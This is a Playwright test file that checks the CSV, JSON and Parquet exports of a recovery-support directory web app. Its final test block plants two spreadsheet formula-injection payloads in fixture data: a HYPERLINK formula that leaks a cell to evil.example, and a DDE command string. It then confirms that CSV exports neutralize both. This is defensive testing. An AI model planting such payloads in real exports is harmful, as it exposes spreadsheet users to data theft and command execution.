// Exports: what the engine writes in the browser is what is on screen, row for row, in the
// table's order, checked against native DuckDB reading the same release; and a CSV never
// carries a cell a spreadsheet would run as a formula.
import { readFileSync, writeFileSync } from 'node:fs';
import type { Server } from 'node:http';
import { join } from 'node:path';
import type { Download, Page } from '@playwright/test';
import { buildRelease } from '../scripts/build/pipeline.ts';
import { scratchDir, scratchSources } from '../scripts/build/test-release.ts';
import { createStaticServer } from '../scripts/serve/static-server.ts';
import { csvIds, expect, openDirectory, test, withoutBom } from './fixtures.ts';
import { oracleIds, parquetIds } from './oracle.ts';

async function download(page: Page, format: string): Promise<Download> {
  const [file] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: format, exact: true }).click()]);
  return file;
}

/** Every row of a CSV, split into cells by DuckDB itself. */
async function csvCells(path: string): Promise<Record<string, string>[]> {
  const { DuckDBInstance } = await import('@duckdb/node-api');
  const db = await (await DuckDBInstance.create(':memory:')).connect();
  return (await db.runAndReadAll(`SELECT * FROM read_csv('${path}', all_varchar = true)`)).getRowObjectsJS() as Record<string, string>[];
}

const onScreen = (page: Page) => page.locator('tr[data-org-id]').evaluateAll((rows) => rows.map((r) => r.getAttribute('data-org-id')!));

test('CSV, JSON and Parquet hold the results in the order on screen', async ({ page }) => {
  await openDirectory(page, './?where=02139&r=10');
  const expected = await oracleIds({ zip: '02139', miles: 10 });
  await expect(page.locator('[data-total]')).toHaveAttribute('data-total', String(expected.length), { timeout: 30_000 });
  await expect(page.locator('tr[data-org-id]').first()).toBeVisible();

  const csv = await download(page, 'CSV');
  expect(csv.suggestedFilename()).toMatch(/^recovery-support-cambridge-ma-02139-10mi-\d{4}-\d{2}-\d{2}\.csv$/);
  const csvText = withoutBom(readFileSync((await csv.path())!, 'utf8'));
  // The sample's rows say first that they are generated: a file leaves the page's notice behind.
  expect(csvText.split('\n')[0]).toMatch(/^generated_sample,org_id,name,program_name,org_type,level_of_care,address_line1,address_line2,city,county,county_source,state,zip,phone/);
  const ids = csvIds(csvText);
  expect(ids).toEqual(expected);
  const screen = await onScreen(page);
  expect(screen.length).toBeGreaterThan(5);
  expect(ids.slice(0, screen.length)).toEqual(screen);
  // What a spreadsheet reader needs: distances to a tenth of a mile, the website, services by name,
  // a column for each category (one cell of every service mixed payment, genders and smoking policy).
  const cells = await csvCells((await csv.path())!);
  expect(cells.every((r) => r.generated_sample === 'true')).toBe(true);
  // The sample names no county: each is the one holding where the listing is placed, and says so.
  expect(cells.filter((r) => r.county === 'Middlesex').length).toBeGreaterThan(0);
  for (const row of cells) expect(row.county_source).toBe(row.county ? 'position' : null);
  const payment = 'Payment/Insurance/Funding Accepted';
  expect(Object.keys(cells[0])).toEqual(expect.arrayContaining(['website', 'distance_miles', 'Type of Care', payment, 'Gender Accepted']));
  for (const row of cells) expect(row.distance_miles).toMatch(/^\d+(\.\d)?$/);
  expect(cells.filter((r) => r.website).length).toBeGreaterThan(0);
  expect(cells.some((r) => /Medicaid/.test(r[payment] ?? ''))).toBe(true);
  for (const row of cells) expect(row['Type of Care'] ?? '').not.toMatch(/Medicaid|Male|Female/);
  for (const row of cells) expect(row[payment] ?? '').not.toMatch(/(^|; )[A-Z]{2,5}(;|$)/);

  const json = JSON.parse(readFileSync((await (await download(page, 'JSON')).path())!, 'utf8')) as { org_id: string }[];
  expect(json.map((r) => r.org_id)).toEqual(expected);
  expect(await parquetIds((await (await download(page, 'PARQUET')).path())!)).toEqual(expected);
});

test('a state\'s download is named for the state, not the whole country', async ({ page }) => {
  await openDirectory(page, './?where=WY');
  await expect(page.locator('[data-total]')).toContainText('results in Wyoming', { timeout: 30_000 });
  const csv = await download(page, 'CSV');
  expect(csv.suggestedFilename()).toMatch(/^recovery-support-wyoming-\d{4}-\d{2}-\d{2}\.csv$/);
  const rows = withoutBom(readFileSync((await csv.path())!, 'utf8')).trim().split('\n').slice(1);
  await expect(page.locator('[data-total]')).toHaveAttribute('data-total', String(rows.length));
});

test('an export follows the sort of the table', async ({ page }) => {
  await openDirectory(page, './?where=02139&r=10');
  await expect(page.locator('tr[data-org-id]').first()).toBeVisible({ timeout: 30_000 });
  const nearest = await onScreen(page);
  // Names Z to A: clearly another order than nearest first.
  const header = page.getByRole('columnheader', { name: /Name/ });
  await page.getByRole('button', { name: 'Name' }).click();
  await expect(header).toHaveAttribute('aria-sort', 'ascending');
  await page.getByRole('button', { name: 'Name' }).click();
  await expect(header).toHaveAttribute('aria-sort', 'descending');
  await expect.poll(async () => (await onScreen(page))[0]).not.toBe(nearest[0]);
  const screen = await onScreen(page);
  const ids = csvIds(readFileSync((await (await download(page, 'CSV')).path())!, 'utf8'));
  expect(ids.slice(0, screen.length)).toEqual(screen);
});

test('the dataset download links to the release as published', async ({ page, request }) => {
  const manifest = JSON.parse(readFileSync('dist/data/manifest.json', 'utf8'));
  await openDirectory(page);
  await page.getByText(/^Download the dataset/).click();
  const links = page.locator('.dataset-download a');
  const hrefs = await links.evaluateAll((as) => as.map((a) => (a as HTMLAnchorElement).href));
  expect(hrefs.some((h) => h.endsWith('data/manifest.json'))).toBe(true);
  // A table split by rows alone is "2 files", not "2 files by (see the manifest)" (a person test).
  await expect(page.locator('.dataset-files')).not.toContainText('by (see');
  await expect(page.locator('.dataset-files tr', { hasText: 'organization_services' })).toContainText(/\d+ files \(see the manifest\)/);
  const single = Object.values(manifest.tables as Record<string, { files: { path: string; bytes: number }[] }>).filter((t) => t.files.length === 1);
  for (const table of single) expect(hrefs).toContain(new URL(`data/${table.files[0].path}`, page.url()).href);
  // Every link answers with the file itself.
  for (const href of hrefs) expect((await request.head(href)).status(), href).toBe(200);
  const gazetteer = single.find((t) => t.files[0].path.startsWith('gazetteer/'))!.files[0];
  expect(Number((await request.head(new URL(`data/${gazetteer.path}`, page.url()).href)).headers()['content-length'])).toBe(gazetteer.bytes);
});

test.describe('on a release whose text a spreadsheet would run (the hostile fixture, with formulas)', () => {
  // Its own server beside the test server, with this release behind /data/.
  const port = Number(process.env.E2E_PORT ?? 4173) + 12;
  test.use({ baseURL: `http://127.0.0.1:${port}/` });
  const FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Harbor Light")';
  const FORMULA_STREET = "+cmd|' /C calc'!A0";
  let server: Server;

  test.beforeAll(async () => {
    test.setTimeout(180_000);
    const sources = scratchSources('hostile');
    const file = join(sources, 'treatment_centers_master.json');
    const centers = JSON.parse(readFileSync(file, 'utf8'));
    Object.assign(centers.all_facilities[0], { facility_name: FORMULA_NAME, address_line1: FORMULA_STREET });
    writeFileSync(file, JSON.stringify(centers));
    const data = join(scratchDir(), 'data');
    await buildRelease({ sourcesDir: sources, outDir: data });
    server = createStaticServer({ root: 'dist', mounts: { '/data': data } });
    await new Promise<void>((done) => server.listen(port, '127.0.0.1', done));
  });
  test.afterAll(() => server?.close());

  /** The CSV's row for one organization, split into cells by DuckDB itself. */
  const csvRow = async (path: string, id: string) => (await csvCells(path)).find((r) => r.org_id === id)!;

  test('the results CSV and the console\'s CSV neutralize formula cells; JSON keeps the text as it is', async ({ page }) => {
    await openDirectory(page, './?where=02108&r=5');
    const row = page.locator('tr[data-org-id="SAMHSA_OUT_000001"]');
    await expect(row).toContainText(FORMULA_NAME, { timeout: 30_000 });

    const results = await csvRow((await (await download(page, 'CSV')).path())!, 'SAMHSA_OUT_000001');
    expect(results.name).toBe(`'${FORMULA_NAME}`);
    expect(results.address_line1).toMatch(/^'\+cmd/);
    const json = JSON.parse(readFileSync((await (await download(page, 'JSON')).path())!, 'utf8')) as Record<string, string>[];
    expect(json.find((r) => r.org_id === 'SAMHSA_OUT_000001')?.name).toBe(FORMULA_NAME);

    const sql = "SELECT org_id, name, address_line1 AS \"=street\" FROM organizations_by_id WHERE org_id = 'SAMHSA_OUT_000001'";
    await page.goto(`./?view=sql&sql=${encodeURIComponent(sql)}`);
    await page.getByRole('button', { name: 'Run' }).click();
    await expect(page.locator('[data-rows]')).toHaveAttribute('data-rows', '1', { timeout: 30_000 });
    const consoleCsv = (await (await download(page, 'CSV')).path())!;
    const fromConsole = await csvRow(consoleCsv, 'SAMHSA_OUT_000001');
    expect(fromConsole.name).toBe(`'${FORMULA_NAME}`);
    expect(fromConsole["'=street"]).toMatch(/^'\+cmd/); // a column's name is a cell too
  });
});
